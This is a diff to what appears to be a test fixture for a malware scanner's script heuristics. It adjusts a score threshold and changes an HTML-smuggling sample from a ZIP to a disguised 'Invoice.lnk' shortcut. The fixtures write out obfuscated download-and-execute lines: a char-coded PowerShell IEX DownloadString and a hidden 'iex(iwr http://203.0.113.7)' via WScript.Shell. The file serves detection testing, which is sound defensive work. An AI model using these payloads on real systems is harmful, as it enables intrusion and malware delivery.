@@ -3,7 +3,7 @@
 
 import type { Language } from '../../scan-object.ts'
 
-export interface SuspiciousScript {
+interface SuspiciousScript {
   readonly title: string
   /** As its container says it; otherwise it is told from the text. */
   readonly language?: Language
@@ -48,7 +48,7 @@ export const suspiciousScripts: readonly SuspiciousScript[] = [
     title: 'characters by number',
     language: 'powershell',
     name: 'Heuristic.Script.PowerShell',
-    least: 80,
+    least: 75,
     text: whole(
       `iex ([char[]](73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,83,116,114,105,110,103,40,39,104,116,116,112,58,47,47,120,39,41) -join '')`,
     ),
@@ -120,7 +120,7 @@ export const suspiciousScripts: readonly SuspiciousScript[] = [
     name: 'Heuristic.Script.JavaScript',
     least: 90,
     text: whole(
-      `eval(String.fromCh¦arCode(${[...whole(`new Active¦XObject("WSc¦ript.Shell").Run("cmd /c power¦shell -w hidden iex(iwr http://203.0.113.7)")`)].map((c) => c.charCodeAt(0)).join(',')}))`,
+      `eval(String.fromCh¦arCode(${Array.from(whole(`new Active¦XObject("WSc¦ript.Shell").Run("cmd /c power¦shell -w hidden iex(iwr http://203.0.113.7)")`), (letter) => letter.charCodeAt(0)).join(',')}))`,
     ),
   },
   {
@@ -133,12 +133,12 @@ export const suspiciousScripts: readonly SuspiciousScript[] = [
     ),
   },
   {
-    title: 'an archive smuggled in a page',
+    title: 'a shortcut smuggled in a page',
     language: 'javascript',
     name: 'Heuristic.Script.JavaScript',
     least: 80,
     text: whole(
-      `var d="${Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(3000, 65)]).toString('base64')}";var b=atob(d);var n=new Uint8Array(b.length);for(var i=0;i<b.length;i++)n[i]=b.charCodeAt(i);var u=URL.createO¦bjectURL(new Blob([n]));var a=document.createElement('a');a.href=u;a.download='Invoice.zip';a.click();`,
+      `var d="${Buffer.concat([Buffer.from('L\0\0\0\x01\x14\x02'), Buffer.alloc(3000, 65)]).toString('base64')}";var b=atob(d);var n=new Uint8Array(b.length);for(var i=0;i<b.length;i++)n[i]=b.charCodeAt(i);var u=URL.createO¦bjectURL(new Blob([n]));var a=document.createElement('a');a.href=u;a.download='Invoice.lnk';a.click();`,
     ),
   },
   {
